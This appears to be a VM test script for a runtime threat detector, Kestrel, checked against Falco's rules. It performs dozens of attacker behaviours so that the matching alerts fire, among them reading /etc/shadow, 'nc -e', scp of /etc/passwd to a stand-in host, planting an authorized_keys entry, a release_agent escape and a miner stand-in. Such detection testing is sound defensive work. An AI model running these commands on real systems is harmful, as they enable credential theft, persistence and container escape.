# behaviours: every behaviour the default ruleset watches for, performed
# for real (busybox applets and /bin/kestrel-behave making the syscalls) in
# a privileged container started the way runc starts one (containerd's
# cgroup and bundle with CRI annotations) and on the host; `kestrel run`
# with rules/kestrel_rules.yaml must raise the expected rule for each, with
# the process name and container id.  Then the same behaviours with Falco's
# stable rules file loaded instead (packed as /falco-rules/ by vmtest.sh):
# each behaviour whose upstream rule can fire here must raise it; the
# phase is skipped, with a SKIP line, while Kestrel refuses that file.
# timeout: 900
. /scenarios/lib.sh

# ---------------------------------------------------------------- the world
# Everything the behaviours need that is not itself a behaviour is laid out
# before the consumer starts.
HOSTROOT=$PWD/hostroot
mkdir -p "$HOSTROOT"
TOOLS_ID=7c0ffee0123456789abcdef0123456789abcdef0123456789abcdef012345678
NAMES=/tmp/names
mkdir -p $NAMES /srv/www /var/log /root/.ssh /var/lib/dpkg /etc/apt /var/tmp \
	/usr/local/bin /tmp/lib /tmp/work /etc/cron.d
# Programs imitated by name: a link to kestrel-behave or busybox gives the
# process that name (the kernel takes comm from the path it execs).
for n in nginx mysqld sshd ssh ls; do ln -sf /bin/kestrel-behave $NAMES/$n; done
for n in useradd xmrig sudoedit pkexec tcpdump; do ln -sf /bin/busybox $NAMES/$n; done
echo '<html>ok</html>' >/srv/www/index.html
echo 'Nov 29 10:00:00 host sshd[1]: Accepted publickey for root' >/var/log/auth.log
echo 'not a real key' >/root/.ssh/id_rsa
echo 'Package: busybox' >/var/lib/dpkg/status
echo 'x' >/tmp/lib/liblzma.so.5.6.1
cp /bin/busybox /tmp/work/junk
echo 'echo hi' >/tmp/work/suid-tool
chmod 0755 /tmp/work/suid-tool
# Addresses on the loopback device stand in for remote hosts: a documentation
# address (198.51.100.7), the cloud metadata service, the Kubernetes service.
for a in 198.51.100.7 169.254.169.254 10.96.0.1; do ip addr add $a/32 dev lo 2>/dev/null || true; done
# Listeners for the connections (the container shares the host's network,
# as a hostNetwork pod does).
for p in 80 443 3333 4445 6443 8443 30080; do kestrel-behave listen $p & done
httpd -p 8080 -h /srv/www
sleep 0.5

# A module to try to load from the container (a copy of ours: already
# loaded, so the kernel refuses it after reading it).
mk_tools_container() {
	runc_container tools "$TOOLS_ID" true /bin/sh -c 'exec sleep 100000'
	cp /kestrel.ko "$RC_ROOT/tmp/m.ko"
	# Tools the image would not have, imitated by name.
	for n in debugfs apk nmap scp kubectl; do ln -sf busybox "$RC_ROOT/bin/$n"; done
	mkdir -p "$RC_ROOT/host/etc"
	echo kestrel-vm >"$RC_ROOT/host/etc/hostname"
}

# ---------------------------------------------------------------- behaviours
# One line per behaviour: ID|WHERE|OUR RULE|UPSTREAM STABLE RULE (or -)|
# FIELDS (key=value;... checked in our alert's output_fields besides the
# container id).  WHERE: C (the privileged container) or H (the host).
EXPECT=$PWD/expect.txt
cat >"$EXPECT" <<'EOF'
priv_start|C|Privileged container started|-|proc.name=sh
broad_caps|C|Container started with broad capabilities|-|proc.name=sh
sensitive_mount|C|Container started with a sensitive host mount|-|proc.name=sh
shadow_read|C|Sensitive file read by unexpected program|Read sensitive file untrusted|proc.name=cat;fd.name=/etc/shadow
trusted_read|H|Sensitive file read by unexpected program|Read sensitive file trusted after startup|proc.name=nginx;fd.name=/etc/shadow
traversal|H|Path traversal to a system file|Directory traversal monitored file read|proc.name=cat;fd.name=/etc/hostname
symlink|H|Link to sensitive file|Create Symlink Over Sensitive Files|proc.name=ln;fs.path.source=/etc/shadow
hardlink|H|Link to sensitive file|Create Hardlink Over Sensitive Files|proc.name=ln;fs.path.target=/root/shadow-copy
terminal_shell|C|Terminal shell in a container|Terminal shell in container|proc.name=sh
k8s_api|C|Container contacted the Kubernetes API|-|proc.name=kestrel-behave
nc_exec_container|C|Netcat-style tool ran a command|Netcat Remote Code Execution in Container|proc.name=nc
redirect_container|C|Standard stream redirected to a socket|Redirect STDOUT/STDIN to Network Connection in Container|proc.name=nc
nc_exec_host|H|Netcat-style tool ran a command|-|proc.name=nc
redirect_host|H|Standard stream redirected to a socket|-|proc.name=nc
find_keys|H|Search for keys or credentials|Search Private Keys or Passwords|proc.name=find
aws_keys|H|Search for keys or credentials|Find AWS Credentials|proc.name=grep
clear_log|H|Log file truncated|Clear Log Activities|fd.name=/var/log/auth.log
shred|H|Disk wiping or formatting tool run|Remove Bulk Data from Disk|proc.name=shred
packet_socket|C|Raw packet socket in a container|Packet socket created in container|proc.name=kestrel-behave
kmod_container|C|Kernel module loaded|Linux Kernel Module Injection Detected|proc.name=kestrel-behave
debugfs|C|Host-level tool run in a privileged container|Debugfs Launched in Privileged Container|proc.name=debugfs
mount_container|C|Privileged container escape attempt|-|proc.name=mount
release_agent|C|Container wrote a kernel helper file|Detect release_agent File Container Escapes|proc.name=sh;fd.name=/tmp/cg/release_agent
ptrace_attach|H|Process attached with ptrace|PTRACE attached to process|proc.name=kestrel-behave
traceme|H|Program refused debuggers|PTRACE anti-debug attempt|proc.name=kestrel-behave
shm_exec|H|Program run from shared memory|Execution from /dev/shm|proc.name=true
drift_create|C|Executable created in a container|-|proc.name=cp;fd.name=/tmp/dropped
drift_chmod|C|Executable created in a container|-|proc.name=chmod
ssh_port|H|SSH client to a non-standard port|Disallowed SSH Connection Non Standard Port|proc.name=ssh
memfd|H|Program executed from memory|Fileless execution via memfd_create|
web_shell|H|Shell or tool spawned by a server program|Run shell untrusted|proc.name=sh;proc.pname=nginx
db_child|H|Shell or tool spawned by a server program|-|proc.name=id;proc.pname=mysqld
system_user|H|Interactive session as a system account|System user interactive|proc.name=id;user.name=daemon
recon|H|Reconnaissance command at a terminal|-|proc.name=uname
shell_config|H|Shell startup file modified|-|fd.name=/root/.bashrc
cron|H|Scheduled job added|-|fd.name=/etc/cron.d/kestrel-job
ssh_read|H|Sensitive file read by unexpected program|-|proc.name=cat;fd.name=/root/.ssh/id_rsa
setns|H|Namespace change by unexpected program|-|proc.name=nsenter
unshare_container|C|Privileged container escape attempt|-|proc.name=unshare
utility_net|H|Network connection by a shell or core utility|-|proc.name=ls
proxy|H|Downloader run through a proxy from its environment|-|proc.name=wget
udp|H|Unexpected UDP traffic|-|proc.name=kestrel-behave
setuid|H|Identity switched by unexpected program|-|proc.name=kestrel-behave
useradd|H|Account management tool run|-|proc.name=useradd
dev_file|H|File created below /dev|-|fd.name=/dev/kestrel-drop
metadata|C|Container contacted the cloud metadata service|-|proc.name=kestrel-behave
pkg_container|C|Package manager run in a container|-|proc.name=apk
nettool_container|C|Network probe tool run|-|proc.name=nmap
nettool_host|H|Network probe tool run|-|proc.name=tcpdump
history|H|Shell history erased|-|proc.name=rm
setuid_bit|H|Setuid or setgid bit set|-|proc.name=chmod
scp|C|Remote access tool run in a container|-|proc.name=scp
wget_container|C|Download tool run in a container|-|proc.name=wget
environ|C|Process environment read from /proc|-|proc.name=cat;fd.name=/proc/1/environ
kubectl_cp|C|Archive tool run by a container exec|-|proc.name=tar
authorized_keys|H|SSH authorized keys changed|-|fd.name=/root/.ssh/authorized_keys
glibc_tunables|H|Program started with glibc tunables|-|proc.name=true
xz|H|Backdoored xz library opened|-|proc.name=cat;fd.name=/tmp/lib/liblzma.so.5.6.1
bpf|H|BPF program loaded|-|proc.name=kestrel-behave
pkg_sources|H|Package source list changed|-|fd.name=/etc/apt/sources.list
bin_mkdir|H|Write below binary or library directory|-|proc.name=mkdir;fs.path.name=/usr/local/bin/kit
bin_write|H|Write below binary or library directory|-|proc.name=sh;fd.name=/usr/local/bin/kit/tool
lib_rename|H|Write below binary or library directory|-|proc.name=mv;fs.path.target=/usr/lib/libevil.so
system_binary|H|System binary modified|-|fd.name=/bin/chsh
etc_write|H|Write below configuration directory|-|fd.name=/etc/kestrel-test.conf
root_write|H|Write in the root directories|-|fd.name=/root/notes.txt
dpkg_db|H|Package database written by an unexpected program|-|proc.name=sh;fd.name=/var/lib/dpkg/status
nodeport|C|Container connection on a NodePort|-|proc.name=kestrel-behave
hidden|H|Hidden file created in a system directory|-|proc.name=mkdir;fs.path.name=/var/tmp/.cache-x
miner_port|H|Connection to a mining pool port|-|proc.name=kestrel-behave
miner|H|Crypto miner started|-|proc.name=xmrig
kubectl|C|Kubernetes client run in a container|-|proc.name=kubectl
sudo|H|Sudo argument escape attempt|-|proc.name=sudoedit
uffd|H|userfaultfd by an unprivileged user|-|proc.name=kestrel-behave
pkexec|H|pkexec started without arguments|-|proc.name=pkexec
entrypoint_overwrite|C|Container entrypoint binary overwritten|-|proc.name=kestrel-behave
base64|C|Payload decoded in a container|-|proc.name=base64
host_device|C|Container opened a host disk or memory device|-|proc.name=head;fd.name=/dev/mem
host_paths|C|Container read host paths mounted inside|-|proc.name=cat;fd.name=/host/etc/hostname
listener|H|Listener opened by a shell or network tool|-|proc.name=nc
ownership|H|Ownership or mode change on sensitive path|-|proc.name=chmod;fs.path.name=/etc/shadow
EOF

# Each behaviour, in the order of the table; failures of the commands
# themselves are expected for some (a refused module, applets that do not
# exist behind an imitated name) and do not matter: the syscalls were made.
# Applets are called by their path: busybox sh runs an applet named
# without one inside a fork of itself, with no exec (and no new name).
perform() {
	q() {
		echo "+ $*" >>perform.log
		"$@" >>perform.log 2>&1 || echo "  (status $?)" >>perform.log
	}
	# priv_start, broad_caps, sensitive_mount: the container's pid 1
	# (started by mk_tools_container: all capabilities, / at /host).
	q rc_exec /bin/cat /etc/shadow
	q $NAMES/nginx later-read 6 /etc/shadow
	q $NAMES/nginx spawn /bin/cat /srv/www/../../etc/hostname
	q /bin/ln -s /etc/shadow /tmp/work/shadow-link
	q /bin/ln /etc/shadow /root/shadow-copy
	q kestrel-behave tty /run/runtime/runc exec-in "$RC_CG" "$RC_PID" /bin/sh -c 'exit 0'
	q rc_exec /bin/kestrel-behave connect 10.96.0.1 443
	q rc_exec /bin/nc 127.0.0.1 4445 -e /bin/true
	q /bin/nc 127.0.0.1 4445 -e /bin/true
	q /bin/find /root -name id_rsa
	q /bin/grep -r aws_secret_access_key /root
	q /bin/sh -c ': >/var/log/auth.log'
	q /bin/shred /tmp/work/junk
	q rc_exec /bin/kestrel-behave packet-socket
	q rc_exec /bin/kestrel-behave finit /tmp/m.ko
	q rc_exec /bin/debugfs
	q rc_exec /bin/mount -t tmpfs none /root
	# The writer stays a second: capabilities (which Falco's rule checks)
	# are read from /proc when a rule asks, so the process must be alive.
	q rc_exec /bin/sh -c 'mkdir -p /tmp/cg && echo /evil >/tmp/cg/release_agent && sleep 1'
	/bin/sleep 30 &
	q kestrel-behave ptrace-attach $!
	/bin/kill $! 2>/dev/null || true
	q kestrel-behave traceme /bin/true
	q /bin/cp /bin/busybox /dev/shm/true
	q /dev/shm/true
	q rc_exec /bin/cp /bin/busybox /tmp/dropped
	q rc_exec /bin/chmod 0755 /tmp/dropped
	q $NAMES/ssh connect 198.51.100.7 8443
	q kestrel-behave memfd-exec /bin/busybox true
	q $NAMES/nginx spawn /bin/sh -c 'exit 0'
	q $NAMES/mysqld spawn /bin/id
	q $NAMES/sshd spawn /bin/kestrel-behave tty /bin/kestrel-behave as 1 /bin/id
	q kestrel-behave tty /bin/uname -a
	q /bin/sh -c 'echo "alias ll=ls" >>/root/.bashrc'
	q /bin/sh -c 'echo "* * * * * root /tmp/x" >/etc/cron.d/kestrel-job'
	q /bin/cat /root/.ssh/id_rsa
	q /bin/nsenter -t "$RC_PID" -u /bin/true
	q rc_exec /bin/unshare -m /bin/true
	q $NAMES/ls connect 127.0.0.1 8080
	q /bin/env HTTP_PROXY=http://127.0.0.1:3128 http_proxy=http://127.0.0.1:3128 /bin/wget -q -O /dev/null http://198.51.100.7:8080/
	q kestrel-behave udp 198.51.100.7 7001
	q kestrel-behave as 1000 /bin/true
	q $NAMES/useradd -D bob
	q /bin/sh -c 'echo x >/dev/kestrel-drop'
	q rc_exec /bin/kestrel-behave connect 169.254.169.254 80
	q rc_exec /bin/apk add curl
	q rc_exec /bin/nmap -sS 10.0.0.0/24
	q $NAMES/tcpdump -i lo
	q /bin/sh -c 'echo ls >/root/.ash_history'
	q /bin/rm /root/.ash_history
	q /bin/chmod u+s /tmp/work/suid-tool
	q rc_exec /bin/scp /etc/passwd backup@198.51.100.7:/tmp/
	q rc_exec /bin/wget -q -O /dev/null http://198.51.100.7:8080/
	q rc_exec /bin/cat /proc/1/environ
	q rc_exec /bin/tar cf /dev/null /etc
	q /bin/sh -c 'echo "ssh-ed25519 AAAA attacker" >>/root/.ssh/authorized_keys'
	q /bin/env GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true
	q /bin/cat /tmp/lib/liblzma.so.5.6.1
	q kestrel-behave bpf-load
	q /bin/sh -c 'echo "deb http://198.51.100.7/debian stable main" >>/etc/apt/sources.list'
	q /bin/mkdir /usr/local/bin/kit
	q /bin/sh -c 'echo "#!/bin/sh" >/usr/local/bin/kit/tool'
	q /bin/sh -c 'echo x >/tmp/work/libevil.so && /bin/mkdir -p /usr/lib && /bin/cp /tmp/work/libevil.so /usr/lib/.libevil.tmp && /bin/mv /usr/lib/.libevil.tmp /usr/lib/libevil.so'
	q /bin/sh -c 'echo "#!/bin/sh" >/bin/chsh'
	q /bin/sh -c 'echo x >>/etc/kestrel-test.conf'
	q /bin/sh -c 'echo x >/root/notes.txt'
	q /bin/sh -c 'echo "Status: install ok installed" >>/var/lib/dpkg/status'
	q rc_exec /bin/kestrel-behave connect 127.0.0.1 30080
	q /bin/mkdir /var/tmp/.cache-x
	q kestrel-behave connect 198.51.100.7 3333
	q $NAMES/xmrig -o stratum+tcp://pool.example:3333 -u wallet
	q rc_exec /bin/kubectl get pods
	q $NAMES/sudoedit -s 'x\'
	q kestrel-behave uffd 1000
	q kestrel-behave exec-noargs $NAMES/pkexec
	q rc_exec /bin/sh -c '/bin/sleep 30 & /bin/kestrel-behave open-write /proc/$!/exe; kill $!'
	q rc_exec /bin/sh -c 'echo aGVsbG8= | /bin/base64 -d'
	q rc_exec /bin/head -c 1 /dev/mem
	q rc_exec /bin/cat /host/etc/hostname
	/bin/nc -l -p 4446 >/dev/null 2>&1 &
	/bin/sleep 0.5
	/bin/kill $! 2>/dev/null || true
	q /bin/chmod 0640 /etc/shadow
	/bin/sleep 1
}

# Upstream rules that should fire on a behaviour but cannot with this
# engine yet, each with the reason (ID:reason, one per line).  They are
# reported as KNOWN-GAP and do not fail the phase; one that starts firing
# is reported too, so the list can shrink.
# (Empty: "Run shell untrusted" fires since proc.aname without an index
# matches when any ancestor does, as in Falco.)
UPSTREAM_GAPS=''

# check_phase ALERTS COLUMN: for each behaviour, whether an alert of the
# rule in COLUMN (3: ours, 4: upstream) names it; prints one line each and
# sets CP_ALERTED, CP_EXPECTED and CP_MISSING.
check_phase() {
	CP_ALERTED=0
	CP_EXPECTED=0
	CP_GAPS=0
	CP_MISSING=
	while IFS='|' read -r id where ours upstream fields; do
		[ -n "$id" ] || continue
		if [ "$2" = 3 ]; then rule=$ours; else rule=$upstream; fi
		[ "$rule" != - ] || continue
		CP_EXPECTED=$((CP_EXPECTED + 1))
		grep -F "\"rule\":\"$rule\"" "$1" >cp.tmp || grep -E "$(jstr rule "$rule")" "$1" >cp.tmp || true
		if [ "$2" = 3 ]; then
			if [ "$where" = C ]; then cid=$TOOLS_SHORT; else cid=host; fi
			grep -E "$(jstr container.id "$cid")" cp.tmp >cp.tmp2 || true
			mv cp.tmp2 cp.tmp
			oldifs=$IFS
			IFS=';'
			for kv in $fields; do
				grep -F "\"${kv%%=*}\":\"${kv#*=}\"" cp.tmp >cp.tmp2 ||
					grep -E "$(jstr "${kv%%=*}" "${kv#*=}")" cp.tmp >cp.tmp2 || true
				mv cp.tmp2 cp.tmp
			done
			IFS=$oldifs
		fi
		gap=
		[ "$2" = 3 ] || gap=$(echo "$UPSTREAM_GAPS" | sed -n "s/^$id://p")
		if [ -s cp.tmp ]; then
			CP_ALERTED=$((CP_ALERTED + 1))
			echo "BEHAVIOUR $id ($where): ALERT   $rule${gap:+ (listed as a known gap: it fires now)}"
		elif [ -n "$gap" ]; then
			CP_GAPS=$((CP_GAPS + 1))
			echo "BEHAVIOUR $id ($where): KNOWN-GAP $rule: $gap"
		else
			CP_MISSING="$CP_MISSING $id"
			echo "BEHAVIOUR $id ($where): MISSING $rule [$fields]"
			grep -F "\"rule\":\"$rule\"" "$1" | head -n 3 | sed 's/^/    alert of that rule: /'
		fi
	done <"$EXPECT"
	rm -f cp.tmp
}

# run_phase NAME RULES: the container, the consumer, the behaviours.
run_phase() {
	kestrel_start_cmd "$1" run -r "$2" --json --all-matches --host-root "$HOSTROOT"
	mk_tools_container
	TOOLS_SHORT=$RC_SHORT
	say "$1: container tools ($TOOLS_SHORT) pid $RC_PID; $(wc -l <"$EXPECT") behaviours"
	perform
	kill -9 "$RC_PID" 2>/dev/null || true
	wait "$RC_RUNC" 2>/dev/null || true
	kestrel_stop
	say "$1: $(grep -c '"rule"' "$KOUT") alerts"
}

kmod_load

# ---------------------------------------------------------------- ours
run_phase ours /rules/kestrel_rules.yaml
check_phase "$KOUT" 3
OURS_ALERTED=$CP_ALERTED
OURS_EXPECTED=$CP_EXPECTED
OURS_MISSING=$CP_MISSING
echo "SUMMARY ours: $OURS_ALERTED of $OURS_EXPECTED behaviours raised our rule with its fields"
say "rules that fired (alerts per rule):"
sed -n 's/.*"rule": *"\([^"]*\)".*/\1/p' "$KOUT" | sort | uniq -c | sort -rn

# ---------------------------------------------------------------- upstream
UPSTREAM=/falco-rules/falco_rules.yaml
upstream_ok=
if [ ! -f "$UPSTREAM" ]; then
	echo "SKIP upstream: $UPSTREAM was not packed into the guest (FALCO_RULES_DIR)"
elif ! kestrel rules validate "$UPSTREAM" >validate.out 2>&1; then
	echo "SKIP upstream: kestrel rules validate refuses $UPSTREAM: $(grep -m1 -i error validate.out)"
else
	upstream_ok=1
	# The second phase starts from the same world: the files the first
	# phase made are put back as they were.
	rm -f /tmp/work/shadow-link /root/shadow-copy /dev/shm/true /etc/cron.d/kestrel-job \
		/dev/kestrel-drop /root/.ssh/authorized_keys /bin/chsh /root/notes.txt \
		/usr/lib/libevil.so
	rm -rf /usr/local/bin/kit /var/tmp/.cache-x
	cp /bin/busybox /tmp/work/junk
	run_phase upstream "$UPSTREAM"
	check_phase "$KOUT" 4
	echo "SUMMARY upstream: $CP_ALERTED of $CP_EXPECTED behaviours raised the upstream stable rule ($CP_GAPS known engine gaps)"
	say "upstream rules that fired (alerts per rule):"
	sed -n 's/.*"rule": *"\([^"]*\)".*/\1/p' "$KOUT" | sort | uniq -c | sort -rn
	[ -z "$CP_MISSING" ] || fail "upstream rules missing for:$CP_MISSING"
fi

# Put the guest back for the scenarios that follow in the same boot.
for a in 198.51.100.7 169.254.169.254 10.96.0.1; do ip addr del $a/32 dev lo 2>/dev/null || true; done
rm -rf /tmp/work/shadow-link /root/shadow-copy /dev/shm/true /etc/cron.d /dev/kestrel-drop \
	/root/.ssh /root/.bashrc /root/notes.txt /bin/chsh /usr/lib /usr/local /var/tmp/.cache-x \
	/etc/apt /etc/kestrel-test.conf /var/lib/dpkg
chmod 0640 /etc/shadow

[ -z "$OURS_MISSING" ] || fail "our rules missing for:$OURS_MISSING"
say "ok${upstream_ok:+ (ours and upstream)}"
